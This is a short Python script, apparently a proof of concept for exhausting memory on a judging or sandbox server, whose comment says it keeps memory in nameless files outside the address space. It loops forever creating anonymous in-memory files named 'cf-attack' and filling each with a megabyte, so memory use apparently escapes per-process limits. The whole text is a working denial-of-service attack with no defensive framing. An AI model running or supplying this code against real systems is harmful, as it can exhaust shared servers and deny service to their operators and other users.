# RTE MLE OLE
# Keeps memory in files without names, where no address space is used.
import os
files = []
while True:
    file = os.memfd_create("cf-attack")
    os.write(file, bytes(1 << 20))
    files.append(file)
